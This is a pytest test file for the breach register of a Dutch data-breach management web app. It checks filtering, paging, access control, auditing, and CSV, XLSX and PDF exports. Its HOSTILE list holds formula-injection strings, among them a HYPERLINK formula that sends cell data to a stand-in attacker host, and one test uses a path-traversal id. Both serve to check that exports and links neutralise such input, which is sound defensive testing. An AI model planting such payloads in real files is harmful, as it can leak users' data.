"""The register page and its exports: the view in the URL, files that hold exactly that view,
cells that a spreadsheet never runs as formulas, a PDF with the rows, every export audited."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import subprocess
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select, update

from breachdesk.domain.assessment import Outcome, assess
from breachdesk.domain.checklist import BreachType
from breachdesk.domain.prefill import prefill
from breachdesk.domain.register import RegisterFilter, Sort
from breachdesk.domain.roles import Role
from breachdesk.extensions import db
from breachdesk.models import AuditEvent, Incident, Organisation, User
from breachdesk.services import decisions, register, triage
from breachdesk.services.audit import Actor
from breachdesk.services.clock import FixedClock
from breachdesk.services.organisations import profile_of
from breachdesk.services.report_columns import report_of

from ..conftest import MakeUser, login
from ..integration.test_incidents import submit
from ..integration.test_triage import answers

#: Texts a spreadsheet would run as a formula (or hide one behind), and one it would not.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+31 6 1234 5678 gebeld",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def people(orgs: dict[str, Organisation], make_user: MakeUser) -> tuple[User, User]:
    kruix, luxigo = orgs["kruix"], orgs["luxigo"]
    reporter = make_user(
        "r@x.nl", (kruix, Role.REPORTER), (luxigo, Role.REPORTER), (orgs["leiz"], Role.REPORTER)
    )
    fg = make_user("fg@x.nl", (kruix, Role.FG), (luxigo, Role.FG))
    return reporter, fg


@pytest.fixture
def filled(
    app: Flask, orgs: dict[str, Organisation], people: tuple[User, User], clock: FixedClock
) -> list[Incident]:
    """Eight incidents of the FG's organisations (six with hostile titles), one of another."""
    reporter, _ = people
    made = []
    for index, title in enumerate([*HOSTILE, "Laptop gestolen", "Brief verkeerd bezorgd"]):
        org = orgs["kruix"] if index % 2 == 0 else orgs["luxigo"]
        made.append(submit(reporter, org, clock, title=f"Datalek {index}"))
        # Stored as given (an imported register keeps its cells): the export must cope.
        db.session.execute(update(Incident).where(Incident.id == made[-1].id).values(title=title))
        clock.advance(minutes=1)
    db.session.commit()
    submit(reporter, orgs["leiz"], clock, title="Niet van deze FG")
    return made


def references(text: str) -> list[str]:
    return re.findall(r"data-reference=\"([A-Z]+-\d{4}-\d{4})\"", text)


def shown(fg: User, clock: FixedClock, wanted: RegisterFilter) -> list[str]:
    return [r.reference for r in register.rows(db.session, fg, wanted, clock.now())]


def test_the_register_page_shows_the_view_in_the_url_and_only_the_users_organisations(
    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
) -> None:
    login(client, "fg@x.nl")
    page = client.get("/register/")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert references(text) == [i.reference for i in reversed(filled)]
    assert "Niet van deze FG" not in text and "Laptop gestolen" in text
    assert 'id="nav-register"' in text

    found = client.get("/register/?q=laptop&sort=reference_asc")
    assert references(found.get_data(as_text=True)) == [filled[6].reference]
    # The form shows the view it answers, so it can be changed and bookmarked.
    assert 'value="laptop"' in found.get_data(as_text=True)
    assert 'id="filter-data-imported"' not in text
    # Imported entries hold their data as free text: the data filter says it does not find
    # them (they were silently missing: found by exploratory testing).
    kinds = client.get("/register/?data=financial").get_data(as_text=True)
    assert 'id="filter-data-imported"' in kinds and "zoek dan op de woorden" in kinds


def count_line(text: str) -> str:
    found = re.search(r'id="register-count"[^>]*>(.*?)</p>', text, re.S)
    assert found is not None
    return found.group(1)


def test_a_search_is_counted_with_the_page_or_right_after_it(
    app: Flask, client: Any, filled: list[Incident]
) -> None:
    """SQLite counts a search with its page; PostgreSQL shows the page first (counting a
    search reads every match from the GIN index) and the count follows from /register/count,
    or from the page itself with count=1 (without JavaScript)."""
    login(client, "fg@x.nl")
    line = count_line(client.get("/register/?q=datalek+laptop").get_data(as_text=True))
    count = client.get("/register/count?q=datalek+laptop")
    assert count.status_code == 200 and count.headers["Cache-Control"] == "no-store, private"
    assert count.get_json() == {"total": 0, "more_than": False, "text": "0 incidenten"}
    counted = client.get("/register/count?q=laptop").get_json()
    assert counted == {"total": 1, "more_than": False, "text": "1 incident"}
    if db.engine.dialect.name == "postgresql":
        assert 'data-count-url="/register/count?q=datalek+laptop"' in line
        assert "incidenten" not in line
        on_page = count_line(client.get("/register/?q=laptop&count=1").get_data(as_text=True))
        assert on_page.startswith("1 incident") and "data-count-url" not in on_page
    else:
        assert line.startswith("0 incidenten") and "data-count-url" not in line
    # A filter without a search is counted with its page on both.
    filtered = count_line(client.get("/register/?state=reported").get_data(as_text=True))
    assert filtered.startswith("8 incidenten")
    # Someone without the register's roles counts nothing.
    client.post("/logout")
    login(client, "r@x.nl")
    assert client.get("/register/count?q=laptop").status_code == 403


def test_a_filter_it_cannot_read_is_named_next_to_its_field_not_ignored_silently(
    client: Any, filled: list[Incident]
) -> None:
    login(client, "fg@x.nl")
    page = client.get("/register/?year=twintig&from=gisteren&outcome=x&org=999")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    for key in ("year", "from", "outcome", "org"):
        assert f'id="filter-{key}-error"' in text, key
    assert 'value="twintig"' in text  # what was typed is kept


def test_a_period_that_ends_before_it_starts_narrows_neither_the_page_nor_an_export(
    client: Any, filled: list[Incident]
) -> None:
    """Before, the error was shown but the start was still applied: every row discovered
    before it disappeared from the page and the exports without a word."""
    login(client, "fg@x.nl")
    period = "from=2026-11-20&to=2026-11-01"  # the incidents were discovered before both
    page = client.get(f"/register/?{period}").get_data(as_text=True)
    assert 'id="filter-to-error"' in page
    assert 'value="2026-11-20"' in page and 'value="2026-11-01"' in page  # kept as typed
    assert len(references(page)) == 8
    exported = client.get(f"/register/export.csv?{period}").get_data().decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))) == 1 + 8


def test_pages_follow_one_another_through_the_links(
    app: Flask,
    client: Any,
    filled: list[Incident],
    people: tuple[User, User],
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(register, "PAGE_SIZE", 3)
    login(client, "fg@x.nl")
    seen: list[str] = []
    url: str | None = "/register/?sort=reference_asc"
    while url:
        text = client.get(url).get_data(as_text=True)
        seen += references(text)
        link = re.search(r'rel="next" href="([^"#]+)"', text)
        url = link.group(1).replace("&amp;", "&") if link else None
    assert seen == shown(people[1], clock, RegisterFilter(sort=Sort.REFERENCE_ASC))
    assert len(seen) == 8


def test_only_an_fg_or_administrator_sees_the_register(client: Any, filled: list[Incident]) -> None:
    assert client.get("/register/").status_code == 302  # to the login page
    login(client, "r@x.nl")
    for path in ("/register/", "/register/export.csv", "/register/export.xlsx"):
        assert client.get(path).status_code == 403, path


def test_the_csv_holds_exactly_the_view_for_dutch_excel_and_runs_no_formula(
    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
) -> None:
    login(client, "fg@x.nl")
    response = client.get("/register/export.csv?sort=reference_asc")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="datalekregister-' in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store, private"
    # In English, an English name (it was Dutch: found by exploratory testing).
    client.get("/language/en?next=/register/")
    english = client.get("/register/export.csv?sort=reference_asc").headers["Content-Disposition"]
    assert 'filename="breach-register-' in english
    client.get("/language/nl?next=/register/")
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    header, rows = table[0], table[1:]
    assert header[0] == "Kenmerk" and "Meldnummer AP" in header
    assert [r[0] for r in rows] == shown(people[1], clock, RegisterFilter(sort=Sort.REFERENCE_ASC))
    titles = {r[0]: r[header.index("Titel")] for r in rows}
    for incident, hostile in zip(filled, HOSTILE, strict=False):
        assert titles[incident.reference] == "'" + hostile
    assert titles[filled[6].reference] == "Laptop gestolen"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    narrowed = client.get(f"/register/export.csv?org={filled[0].organisation_id}&q=laptop")
    lines = narrowed.get_data().decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 2 and lines[1].startswith(filled[6].reference)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_reads_its_user_in_its_own_read(
    client: Any,
    filled: list[Incident],
    people: tuple[User, User],
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
    kind: str,
) -> None:
    """Found by testing: a CSV export broke off mid-download with "Instance <User> is not
    bound to a Session": the stream used the user object of the view's transaction, which
    long_read ends. Here the session forgets every object of the view when the export's read
    begins; the export must still hold every row."""
    from contextlib import contextmanager

    from breachdesk.web import register as register_web

    real = register_web.long_read

    @contextmanager
    def forgetting(session: Any) -> Any:
        with real(session):
            session.expunge_all()
            yield

    expected = len(shown(people[1], clock, RegisterFilter()))
    assert expected >= len(filled)
    monkeypatch.setattr(register_web, "long_read", forgetting)
    login(client, "fg@x.nl")
    response = client.get(f"/register/export.{kind}")
    assert response.status_code == 200
    data = response.get_data()
    if kind == "csv":
        text = io.StringIO(data.decode("utf-8-sig"), newline="")
        assert len(list(csv.reader(text, delimiter=";"))) == expected + 1
    else:
        sheet = load_workbook(io.BytesIO(data), read_only=True).active
        assert sheet is not None and len(list(sheet.iter_rows(values_only=True))) == expected + 1


def test_the_xlsx_holds_exactly_the_view_with_text_cells_not_formulas(
    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
) -> None:
    login(client, "fg@x.nl")
    response = client.get("/register/export.xlsx?sort=reference_desc")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=False))
    header = [c.value for c in rows[0]]
    assert header[0] == "Kenmerk"
    assert [r[0].value for r in rows[1:]] == shown(
        people[1], clock, RegisterFilter(sort=Sort.REFERENCE_DESC)
    )
    texts = set()
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                texts.add(cell.value)
                # Text cells shown as typed: no apostrophe in front (Excel showed it).
                assert not (cell.value[:1] == "'" and cell.value[1:2] in "=+-@\t\r"), cell.value
    assert HOSTILE[0] in texts and "+31 6 1234 5678 gebeld" in texts
    discovered = rows[1][header.index("Ontdekt (Nederlandse tijd)")].value
    assert discovered is not None and discovered.tzinfo is None  # a real date for Excel


def test_the_xlsx_holds_an_exact_number_of_people_as_a_number_and_a_range_as_text(
    client: Any, filled: list[Incident]
) -> None:
    """Before, "260" was a text cell: Excel could neither add the column up nor sort it."""
    exact, unknown, ranged = filled[0], filled[2], filled[4]
    db.session.execute(
        update(Incident)
        .where(Incident.id == exact.id)
        .values(subjects_mode="exact", subjects_exact=260)
    )
    db.session.execute(
        update(Incident).where(Incident.id == unknown.id).values(subjects_mode="unknown")
    )
    db.session.commit()
    login(client, "fg@x.nl")
    response = client.get("/register/export.xlsx?sort=reference_asc")
    rows = list(load_workbook(io.BytesIO(response.get_data())).active.iter_rows())
    column = [c.value for c in rows[0]].index("Aantal personen")
    cells = {row[0].value: row[column] for row in rows[1:]}
    assert cells[exact.reference].value == 260 and cells[exact.reference].data_type == "n"
    assert cells[ranged.reference].value == "100–150"  # a range stays readable text
    assert cells[unknown.reference].value is None
    exported = client.get("/register/export.csv?sort=reference_asc").get_data().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))
    people = {row[0]: row[table[0].index("Aantal personen")] for row in table[1:]}
    assert (people[exact.reference], people[ranged.reference], people[unknown.reference]) == (
        "260",
        "100–150",
        "",
    )


def test_the_pdf_holds_the_rows_and_refuses_a_view_beyond_its_limit(
    client: Any, filled: list[Incident], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert shutil.which("pdftotext"), "pdftotext is missing: apt-get install poppler-utils"
    login(client, "fg@x.nl")
    response = client.get("/register/export.pdf?q=laptop")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=response.data, capture_output=True, check=True
    ).stdout.decode()
    assert filled[6].reference in text and "Laptop gestolen" in text
    assert filled[7].reference not in text

    from breachdesk.web import register as register_web

    monkeypatch.setattr(register_web, "PDF_LIMIT", 5)
    refused = client.get("/register/export.pdf?sort=reference_asc", follow_redirects=True)
    assert refused.status_code == 200
    assert "hoogstens 5 incidenten; deze weergave heeft er 8" in refused.get_data(as_text=True)
    assert refused.request.path == "/register/"


def test_every_export_is_audited_without_the_search_words(
    client: Any, filled: list[Incident]
) -> None:
    login(client, "fg@x.nl")
    client.get("/register/export.csv?q=jansen&late=1")
    client.get("/register/export.xlsx")
    events = (
        db.session.execute(select(AuditEvent).where(AuditEvent.action == "register.exported"))
        .scalars()
        .all()
    )
    assert [e.after["format"] for e in events] == ["csv", "xlsx"]
    assert events[0].after == {"format": "csv", "filter": {"late": "1"}, "searched": True}
    assert "jansen" not in str(events[0].after)


def test_row_links_are_the_urls_url_for_builds(app: Flask) -> None:
    """A table's links are built once per page (row_link) and must equal url_for's."""
    from flask import url_for

    from breachdesk.web.context import row_link

    with app.test_request_context("/register/"):
        for endpoint in ("incidents.show", "register.evidence_pack_zip", "actions.index"):
            link = row_link(endpoint, "incident_id")
            for row_id in (1, 42, 987_654):
                assert link(row_id) == url_for(endpoint, incident_id=row_id)
        with pytest.raises(ValueError, match="does not put"):
            row_link("register.index", "incident_id")
        with pytest.raises(ValueError):
            row_link("incidents.show", "incident_id")("1/../../admin")  # ids only


def test_a_csv_export_never_holds_the_write_lock(
    app: Flask, client: Any, filled: list[Incident]
) -> None:
    """A CSV export streams for seconds: it reads without the write lock (SQLite), so other
    requests can write meanwhile, and it ends its transaction with the stream. It held the
    lock until the session was cleaned up, and every other request failed "database is
    locked" after the busy timeout."""
    import sqlite3

    url = app.config["SQLALCHEMY_DATABASE_URI"]
    if not url.startswith("sqlite:///"):
        pytest.skip("SQLite's write lock")
    path = url.removeprefix("sqlite:///")

    def can_write() -> bool:
        other = sqlite3.connect(path, timeout=0.2, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")
            other.execute("ROLLBACK")
            return True
        except sqlite3.OperationalError:
            return False
        finally:
            other.close()

    login(client, "fg@x.nl")
    response = client.get("/register/export.csv", buffered=False)
    chunks = response.iter_encoded()
    assert next(chunks)  # streaming has begun: rows are being read
    assert can_write()  # ... without the write lock
    rest = b"".join(chunks)
    assert rest.count(b"\\n") >= 1 or rest
    assert can_write()  # and nothing is held once it has ended
    response.close()
    assert client.get("/register/").status_code == 200


def test_an_xlsx_export_reads_without_the_write_lock(
    app: Flask, client: Any, filled: list[Incident], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The XLSX file is built before it is sent (30 s for 100,000 incidents): meanwhile other
    requests must still be able to write."""
    import sqlite3

    from breachdesk.web import register as register_web

    url = app.config["SQLALCHEMY_DATABASE_URI"]
    if not url.startswith("sqlite:///"):
        pytest.skip("SQLite's write lock")
    path = url.removeprefix("sqlite:///")
    seen: list[bool] = []
    real = register_web.xlsx_file

    def watching(rows: Any, columns: Any, *, title: str) -> Any:
        rows = list(rows)  # the rows are read by now, inside the export's transaction
        other = sqlite3.connect(path, timeout=0.2, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")
            other.execute("ROLLBACK")
            seen.append(True)
        except sqlite3.OperationalError:
            seen.append(False)
        finally:
            other.close()
        return real(iter(rows), columns, title=title)

    monkeypatch.setattr(register_web, "xlsx_file", watching)
    login(client, "fg@x.nl")
    response = client.get("/register/export.xlsx")
    assert response.status_code == 200 and response.data.startswith(b"PK")
    assert seen == [True]


def decide(
    incident: Incident, fg: User, clock: FixedClock, *, follow: bool, rationale: str
) -> None:
    """Confirm the checklist as the report fills it in and decide: as advised, or otherwise."""
    actor = Actor.of(fg)
    triage.record_triage(db.session, incident, answers(), actor=actor, clock=clock)
    facts = prefill(
        report_of(incident),
        profile_of(incident.organisation),
        frozenset({BreachType.CONFIDENTIALITY}),
    )
    decisions.save_checklist(db.session, incident, facts, confirm=True, actor=actor, clock=clock)
    advised = assess(facts).outcome
    other = Outcome.NOTIFY_AP if advised is Outcome.REGISTER_ONLY else Outcome.REGISTER_ONLY
    decisions.record_decision(
        db.session,
        incident,
        outcome=None if follow else other,
        rationale=rationale,
        actor=actor,
        clock=clock,
    )


def page_reasons(client: Any, incident: Incident) -> list[str]:
    """The advice's reasons as the incident page lists them: "sentence (source)"."""
    page = client.get(f"/incidents/{incident.id}").get_data(as_text=True)
    listed = re.search(r'id="recommendation-reasons">(.*?)</ol>', page, re.S)
    assert listed is not None
    items = re.findall(r"<li>(.*?)</li>", listed.group(1), re.S)
    return [" ".join(html.unescape(re.sub(r"<[^>]+>", "", item)).split()) for item in items]


def test_every_export_carries_the_reasoning_also_when_the_fg_follows_the_advice(
    client: Any, filled: list[Incident], people: tuple[User, User], clock: FixedClock
) -> None:
    """Found by testing: when the FG followed the advice, the register's exports (which go to
    the AP) held no reasoning at all: an empty "Onderbouwing" cell, and in the PDF only the
    decision's date and rule set; only a decision against the advice showed the FG's words.
    Art. 33(5) asks for the reasoning of every decision: each export now gives the reasons of
    the advice the decision rested on, as the incident page shows them, in the reader's
    language, and the FG's own words when given."""
    followed, departed = filled[6], filled[7]
    fg = people[1]
    decide(followed, fg, clock, follow=True, rationale="")
    own = "De ontvanger is een collega met geheimhoudingsplicht die alles direct heeft gewist."
    decide(departed, fg, clock, follow=False, rationale=own)
    login(client, "fg@x.nl")
    reasons = page_reasons(client, followed)
    assert len(reasons) >= 3 and all(r.endswith(")") for r in reasons)
    numbered = "\n".join(f"{n}. {r}" for n, r in enumerate(reasons, 1))

    exported = client.get("/register/export.csv?sort=reference_asc").get_data().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))
    cells = {row[0]: row[table[0].index("Onderbouwing")] for row in table[1:]}
    assert cells[followed.reference] == (f"Advies gevolgd.\nRedenen van het advies:\n{numbered}")
    departed_cell = cells[departed.reference]
    assert (
        departed_cell.startswith("Afgeweken van het advies (")
        and f"Motivering van de FG: {own}" in departed_cell
    )
    assert "\nRedenen van het advies:\n1. " in departed_cell
    assert cells[filled[0].reference] == ""  # no decision yet

    sheet = load_workbook(io.BytesIO(client.get("/register/export.xlsx").get_data())).active
    rows = list(sheet.iter_rows(values_only=True))
    column = list(rows[0]).index("Onderbouwing")
    assert {r[0]: r[column] for r in rows[1:]}[followed.reference] == cells[followed.reference]

    pdf = client.get(f"/register/export.pdf?q={followed.reference}").data
    text = " ".join(
        subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
        .stdout.decode()
        .split()
    )
    assert "Advies gevolgd." in text and "Redenen van het advies:" in text
    for number, reason in enumerate(reasons, 1):
        assert f"{number}. {reason}" in text

    client.get("/language/en?next=/register/")
    english = client.get("/register/export.csv?sort=reference_asc").get_data().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(english, newline=""), delimiter=";"))
    cell = {row[0]: row[table[0].index("Reasoning")] for row in table[1:]}[followed.reference]
    first = page_reasons(client, followed)[0]
    assert cell.startswith(f"Follows the advice.\nThe advice's reasons:\n1. {first}\n2. ")


def pdf_text(client: Any, query: str) -> str:
    """The text of the register's PDF of the view ``query``, its white space made single."""
    response = client.get(f"/register/export.pdf?{query}")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    read = subprocess.run(["pdftotext", "-", "-"], input=response.data, capture_output=True)
    return " ".join(read.stdout.decode().split())


def test_the_pdf_names_its_filters_in_words_as_the_filter_form_does(
    client: Any, filled: list[Incident]
) -> None:
    """Found by testing: the PDF, a document for the AP, named its view with the URL's own
    codes ("Gefilterde weergave: year=2026, from=2026-11-01, outcome=notify_ap_and_subjects,
    informed=informing, late=1"). It names them now as the filter form does, in the reader's
    language."""
    login(client, "fg@x.nl")
    view = "year=2026&from=2026-11-01&outcome=notify_ap_and_subjects&informed=informing&late=1"
    text = pdf_text(client, view)
    assert (
        "Gefilterde weergave: Jaar: 2026; Ontdekt vanaf: 01-11-2026; Besluit: Melden bij de AP"
        " en de betrokkenen informeren; Betrokkenen geïnformeerd: Informeren loopt; Alleen te"
        " laat of verlopen" in text
    )
    assert "year=" not in text and "notify_ap_and_subjects" not in text
    other = "to=2026-11-30&outcome=none&notified=no&state=reported&data=special&sort=reference_asc"
    org = filled[0].organisation_id
    text = pdf_text(client, f"org={org}&q=laptop&{other}")
    assert (
        f"{filled[0].organisation.name} · Gefilterde weergave: Zoeken: “laptop”; Ontdekt tot en"
        " met: 30-11-2026; Besluit: Nog geen besluit; AP gemeld: Niet gemeld; Status: Ontvangen;"
        " Soort gegevens: Bijzondere persoonsgegevens (art. 9); Volgorde: Kenmerk A–Z" in text
    )
    assert "Gefilterde weergave" not in pdf_text(client, f"org={org}")  # an organisation only

    client.get("/language/en?next=/register/")
    text = pdf_text(client, view.replace("late=1", "to=2026-11-30"))
    assert (
        "Filtered view: Year: 2026; Discovered from: 01-11-2026 until 30-11-2026; Decision:"
        " Notify the AP and inform the people affected; People informed: Informing under way"
        in text
    )
